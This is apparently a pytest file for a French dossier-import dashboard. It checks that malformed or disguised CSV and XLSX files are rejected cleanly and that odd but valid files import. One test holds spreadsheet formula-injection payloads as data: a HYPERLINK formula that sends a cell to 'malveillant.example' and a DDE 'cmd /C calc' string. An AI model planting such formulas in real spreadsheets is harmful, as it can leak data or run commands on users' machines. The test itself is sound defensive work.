"""Hostile and broken files (tests/fixtures/hostile/, made by make_hostile.py), on SQLite and PostgreSQL.

Each refused file gets its French message naming the file and, where it applies, the row and column;
no traceback; the database is exactly as before. The odd files that are valid import as they should.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tomllib
import uuid

import pandas as pd
import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

from aic_dash.errors import ImportRejected
from aic_dash.format import fr_int
from aic_dash.ingest import readers
from aic_dash.ingest.dossiers import parse_dossiers
from aic_dash.ingest.readers import MAX_CELL_CHARS, MAX_FILE_BYTES, MAX_FILE_MB, MAX_ROWS, read_table
from aic_dash.store.db import get_engine
from aic_dash.store.imports import import_export, import_path
from aic_dash.store.queries import dossier_fields, import_history, load_dossiers
from tests.conftest import BAD, EXPORTS, FIXTURES, ROOT
from tests.db_state import dump

HOSTILE = FIXTURES / "hostile"

# file -> (row named, column named (start of its label), words the message must hold)
REJECTED: dict[str, tuple[int | None, str | None, tuple[str, ...]]] = {
    "bom_only.csv": (None, None, ("vide",)),
    "csv_bomb_rows.csv": (None, None, (f"{fr_int(MAX_ROWS + 50_000)} lignes", fr_int(MAX_ROWS))),
    "empty_dossiers_sheet.xlsx": (None, None, ("« Dossiers » est vide",)),
    "empty_header_label.csv": (1, "X", ("pas de titre", "ligne 2")),
    "empty_workbook.xlsx": (None, None, ("« Feuil1 » est vide",)),
    "export.csv.gz": (None, None, ("gzip", "Décompressez")),
    "header_on_row_3.csv": (3, None, ("sur la ligne 3", "doivent être sur la ligne 1")),
    "header_on_row_3.xlsx": (3, None, ("sur la ligne 3", "doivent être sur la ligne 1")),
    "huge_cell.csv": (3, "Décrivez votre projet en quelques lignes (W)", (fr_int(MAX_CELL_CHARS),)),
    "huge_shared_strings.xlsx": (None, None, ("limite de 200 Mo", "n'a pas été ouvert")),
    "id_exponent.csv": (4, "ID (A)", ("« 1e6 »",)),
    "id_too_long.csv": (2, "ID (A)", ("« 1100000100000000000000 »",)),
    "lying_sizes.xlsx": (None, None, ("abîmé",)),
    "mixed_dates.csv": (5, "Déposé le (N)", ("« la semaine dernière »",)),
    "mixed_separators.csv": (4, None, ("7 colonnes", "l'en-tête en a 42", "séparateur")),
    "negative_id.csv": (3, "ID (A)", ("« -5 »",)),
    "no_sheet.xlsx": (None, None, ("aucune feuille",)),
    "nul_in_middle.csv": (6, "Décrivez votre projet en quelques lignes", ("0x00",)),
    "pdf_renamed.csv": (None, None, ("document PDF",)),
    "png_renamed.xlsx": (None, None, ("image",)),
    "too_many_columns.csv": (6, None, ("43 colonnes", "l'en-tête en a 42")),
    "unbalanced_quote.csv": (4, None, ("guillemets",)),
    "utf16.csv": (None, None, ("UTF-16", "« CSV UTF-8 »")),
    "utf8_invalid_byte.csv": (6, "Nom du projet", ("0xC3", "UTF-8")),
    "zip_not_workbook.xlsx": (None, None, ("archive ZIP",)),
}
ACCEPTED = {
    "duplicate_id_identical.csv",
    "formulas.csv",
    "id_with_spaces.csv",
    "mixed_dates_ok.csv",
    "ods_renamed.xlsx",
    "sheet_name_spacing.xlsx",
    "trailing_blank_lines.csv",
}
STANDARD_NUMBERS = list(range(11000001, 11000007))


def test_corpus_is_complete_and_small():
    hostile = {p.name for p in HOSTILE.iterdir()}
    assert hostile == set(REJECTED) | ACCEPTED, "every generated file has its expectation here"
    assert len(list(BAD.iterdir())) + len(REJECTED) >= 30
    assert max(p.stat().st_size for p in HOSTILE.iterdir()) < 2_000_000


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def loaded(request, tmp_path_factory, settings):
    """One database per backend for the whole module, holding ds_standard.csv: refusals leave it as is."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'aic.sqlite'}"
    else:
        url = request.getfixturevalue("pg_module_url")
    engine = get_engine(url)
    assert import_path(engine, settings, str(EXPORTS / "ds_standard.csv")).ok
    return engine


@pytest.fixture(scope="module")
def pg_module_url():
    """Like conftest's pg_url, once per module (creating a database and its schema takes a second)."""
    admin = os.environ.get("AIC_DASH_TEST_PG_URL")
    if not admin:
        if os.environ.get("AIC_DASH_REQUIRE_PG") or os.environ.get("CI"):
            pytest.fail("AIC_DASH_TEST_PG_URL manque : lancez les tests par « make test ».")
        pytest.skip("pas de serveur PostgreSQL (lancez « make test » pour l'avoir)")
    name = f"aic_{uuid.uuid4().hex[:12]}"
    admin_engine = create_engine(admin, isolation_level="AUTOCOMMIT")
    with admin_engine.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    url = make_url(admin).set(database=name).render_as_string(hide_password=False)
    yield url
    get_engine(url).dispose()
    get_engine.cache_clear()
    with admin_engine.connect() as conn:
        conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
    admin_engine.dispose()


@pytest.mark.parametrize("name", sorted(REJECTED))
def test_hostile_file_is_refused_and_changes_nothing(loaded, settings, name):
    engine = loaded
    before = dump(engine)
    result = import_path(engine, settings, str(HOSTILE / name))
    assert not result.ok
    row, column, words = REJECTED[name]
    where = re.match(r"Fichier « (.+?) »(?:, ligne (\d+))?(?:, colonne « (.+?) »)? : ", result.error)
    assert where, result.error
    assert where.group(1) == name
    assert where.group(2) == (str(row) if row else None), result.error
    if column:
        assert (where.group(3) or "").startswith(column), result.error
    for word in words:
        assert word in result.error, result.error
    assert "Traceback" not in result.error and "Error" not in result.error
    assert dump(engine) == before
    last = import_history(engine).iloc[0]
    assert (last["outcome"], last["file_name"], last["message"]) == ("rejete", name, result.error)


# --- odd but valid files -----------------------------------------------------------------------


def _imported(engine, settings, name: str):
    result = import_path(engine, settings, str(HOSTILE / name))
    assert result.ok, result.error
    return result, load_dossiers(engine).set_index("number")


def test_formulas_are_stored_as_the_text_typed(engine, settings):
    _, dossiers = _imported(engine, settings, "formulas.csv")
    link = '=HYPERLINK("https://malveillant.example/?d="&A2,"Voir le projet")'
    assert dossiers.loc[11000001, "project"] == link
    fields = dict(dossier_fields(engine, 11000001))
    assert fields["Nom du projet"] == link
    assert fields["Lien vers votre site internet"] == "=1+1"
    assert dict(dossier_fields(engine, 11000002))["Montant approximatif de votre budget global en 2022."] == (
        "+33 1 99 00 22 02"
    )
    assert dict(dossier_fields(engine, 11000003))["Décrivez votre projet en quelques lignes"] == (
        "@SUM(1+1)*cmd|' /C calc'!A0"
    )


def test_identical_duplicate_rows_import_once(engine, settings):
    assert import_path(engine, settings, str(EXPORTS / "ds_standard.csv")).ok
    before = dump(engine)
    result, dossiers = _imported(engine, settings, "duplicate_id_identical.csv")
    assert (result.rows, result.created, result.updated, result.unchanged) == (6, 0, 0, 6)
    assert dossiers.index.tolist() == STANDARD_NUMBERS
    assert dump(engine) == before


def test_ids_padded_with_spaces_are_the_same_dossiers(engine, settings):
    result, dossiers = _imported(engine, settings, "id_with_spaces.csv")
    assert result.created == 6 and dossiers.index.tolist() == STANDARD_NUMBERS


@pytest.mark.parametrize(
    ("name", "detected"),
    [
        ("ods_renamed.xlsx", "ODS, feuille « Dossiers »"),
        ("sheet_name_spacing.xlsx", "XLSX, feuille « dossiers  »"),
        ("trailing_blank_lines.csv", "CSV, UTF-8, séparateur virgule"),
    ],
)
def test_disguised_or_padded_exports_import(engine, settings, name, detected):
    result, dossiers = _imported(engine, settings, name)
    assert result.detected == detected
    reference = parse_dossiers(read_table((EXPORTS / "ds_standard.csv").read_bytes()), settings).dossiers
    assert dossiers.index.tolist() == STANDARD_NUMBERS
    assert dossiers["state"].tolist() == reference["state"].tolist()
    assert dossiers["stage"].tolist() == reference["stage"].tolist()


def test_mixed_date_formats_in_one_column_are_all_read(engine, settings):
    _, dossiers = _imported(engine, settings, "mixed_dates_ok.csv")
    deposited = dossiers["deposited_at"]
    # Excel-in-France dates are Paris wall-clock time: summer time (+02:00) on 27/03, winter on 01/03.
    assert deposited[11000002] == pd.Timestamp("2023-03-27 14:03", tz="Europe/Paris")
    assert deposited[11000004] == pd.Timestamp("2023-03-01 08:00", tz="Europe/Paris")
    assert deposited[11000005] == pd.Timestamp("2023-04-28 11:52:07", tz="Europe/Paris")


# --- limits ------------------------------------------------------------------------------------


def _one_dossier_csv(description: str) -> bytes:
    head = "ID,État du dossier,Déposé le,Décrivez votre projet en quelques lignes\n"
    return (head + f'1,Accepté,2023-04-28 11:52:07 +0200,"{description}"\n').encode()


def test_cell_limit_is_inclusive(settings):
    ok = parse_dossiers(read_table(_one_dossier_csv("é" * MAX_CELL_CHARS)), settings)
    assert len(ok.dossiers) == 1
    with pytest.raises(ImportRejected) as err:
        read_table(_one_dossier_csv("é" * (MAX_CELL_CHARS + 1)))
    assert (err.value.row, err.value.column) == (2, "Décrivez votre projet en quelques lignes (D)")


def test_row_limit_counts_rows_not_blank_lines():
    head = "ID,État du dossier,Déposé le\n".encode()
    assert len(read_table(head + b",,\n" * MAX_ROWS + b"\n" * 1000).frame) == MAX_ROWS
    with pytest.raises(ImportRejected, match="au-delà de la limite"):
        read_table(head + b",,\n" * (MAX_ROWS + 1))


def test_row_limit_applies_to_workbooks(monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 5)
    with pytest.raises(ImportRejected, match=f"{fr_int(6)} lignes"):
        read_table((EXPORTS / "ds_export.xlsx").read_bytes())


def test_upload_limit_is_the_streamlit_one():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == MAX_FILE_MB  # Streamlit counts MiB, like MAX_FILE_BYTES


def test_file_over_the_limit_is_refused_from_disk_and_from_memory(tmp_path, settings):
    engine = get_engine(f"sqlite:///{tmp_path / 'aic.sqlite'}")
    big = tmp_path / "enorme.csv"
    with big.open("wb") as f:  # sparse: nothing is written to disk
        f.truncate(MAX_FILE_BYTES + 1)
    from_disk = import_path(engine, settings, str(big))
    assert not from_disk.ok
    assert from_disk.error.startswith(f"Fichier « enorme.csv » : le fichier pèse {MAX_FILE_MB},0 Mo")
    assert f"limite de {MAX_FILE_MB} Mo" in from_disk.error
    in_memory = import_export(engine, settings, b"\n" * (MAX_FILE_BYTES + 1), "televerse.csv")
    assert not in_memory.ok and f"limite de {MAX_FILE_MB} Mo" in in_memory.error
    assert load_dossiers(engine).empty


def test_command_line_refuses_them_all_without_a_traceback(tmp_path):
    files = [str(HOSTILE / name) for name in sorted(REJECTED)]
    done = subprocess.run(
        [sys.executable, "-m", "aic_dash", "import", *files, "--db", f"sqlite:///{tmp_path / 'aic.sqlite'}"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert done.returncode == 2 and done.stdout == ""
    lines = done.stderr.splitlines()
    assert [line.split(" »", 1)[0] for line in lines] == [f"Fichier « {name}" for name in sorted(REJECTED)]
    assert "Traceback" not in done.stderr
